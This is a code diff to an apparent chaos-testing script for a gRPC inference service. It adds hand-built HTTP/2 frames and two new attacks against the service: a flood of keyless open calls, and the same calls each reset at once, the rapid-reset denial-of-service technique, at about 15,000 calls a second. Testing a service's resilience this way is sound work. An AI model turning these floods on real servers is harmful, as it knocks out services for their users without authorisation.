@@ -10,6 +10,7 @@ MARKET_INFERENCE_API_KEY. chaos.py runs a victim beside each attack.
 import argparse
 import asyncio
 import contextlib
+import itertools
 import os
 import socket
 import sys
@@ -25,7 +26,7 @@ from market_inference.contract.generated.inference_pb2_grpc import MarketInferen
 from runtime.listen import split
 
 LONGEST = 10_000
-FAILURES = (grpc.aio.AioRpcError, TimeoutError)
+FAILURES = (grpc.aio.AioRpcError, OSError)
 
 
 class Attacker:
@@ -207,32 +208,84 @@ async def costly_bars(attacker: Attacker) -> None:
     await attacker.repeat(once, 4)
 
 
+_HEADERS, _RESET, _SETTINGS = 1, 3, 4
+_END_HEADERS, _ACK = 4, 1
+
+
 def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
     return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body
 
 
+_FIELDS = {
+    ":method": "POST",
+    ":scheme": "http",
+    ":path": "/market.inference.v1.MarketInferenceService/Predict",
+    ":authority": "a",
+    "te": "trailers",
+    "content-type": "application/grpc",
+}
+_BLOCK = b"".join(
+    b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+    for name, value in _FIELDS.items()
+)
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
+# Of RST_STREAM: the client no longer needs the call.
+_CANCEL = (8).to_bytes(4, "big")
+
+
 async def headers_without_body(attacker: Attacker) -> None:
     """HTTP/2 connections with 1,000 open calls, without a key and without a request."""
-    fields = {
-        ":method": "POST",
-        ":scheme": "http",
-        ":path": "/market.inference.v1.MarketInferenceService/Predict",
-        ":authority": "a",
-        "te": "trailers",
-        "content-type": "application/grpc",
-    }
-    block = b"".join(
-        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
-        for name, value in fields.items()
-    )
-    flood = b"".join(_frame(1, 4, stream, block) for stream in range(1, 2001, 2))
+    flood = b"".join(_frame(_HEADERS, _END_HEADERS, stream, _BLOCK) for stream in range(1, 2001, 2))
     while attacker.left > 0:
         with contextlib.ExitStack() as connections:
             for _ in range(3):
                 connection = connections.enter_context(socket.create_connection(split(attacker.target)))
                 with contextlib.suppress(OSError):
-                    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + flood)
+                    connection.sendall(_PREFACE + flood)
             await asyncio.sleep(min(0.5, attacker.left))
+
+
+async def open_calls(attacker: Attacker) -> None:
+    """15,000 calls a second without a key and without a request, on three connections."""
+    await _flood(attacker, lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _BLOCK))
+
+
+async def reset_calls(attacker: Attacker) -> None:
+    """The same calls, each reset at once."""
+    await _flood(
+        attacker,
+        lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _BLOCK) + _frame(_RESET, 0, stream, _CANCEL),
+    )
+
+
+async def _flood(attacker: Attacker, call: Callable[[int], bytes]) -> None:
+    """Three connections, each with the frames of 100 calls every 20 ms. What the server ends is opened again."""
+
+    async def connection() -> None:
+        with _connected(attacker.target) as connected:
+            for first in itertools.count(1, 200):
+                connected.sendall(b"".join(call(stream) for stream in range(first, first + 200, 2)))
+                _drop_answers(connected)
+                await asyncio.sleep(0.02)
+
+    await attacker.repeat(connection, 3)
+
+
+def _connected(target: str) -> socket.socket:
+    """A connection that has acknowledged the server's settings: before that gRPC takes a hundred calls in all."""
+    connection = socket.create_connection(split(target), timeout=10)
+    connection.sendall(_PREFACE)
+    connection.recv(1 << 16)
+    connection.sendall(_frame(_SETTINGS, _ACK, 0))
+    return connection
+
+
+def _drop_answers(connection: socket.socket) -> None:
+    """Read what has come. Raises OSError for a connection that the server has ended."""
+    with contextlib.suppress(BlockingIOError):
+        while connection.recv(1 << 16, socket.MSG_DONTWAIT):
+            pass
+        raise ConnectionResetError
 
 
 async def load_models(target: str, key: str) -> None:
@@ -265,6 +318,8 @@ ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
         costly_model,
         costly_bars,
         headers_without_body,
+        open_calls,
+        reset_calls,
     )
 }
 CONTROL = busy.__name__
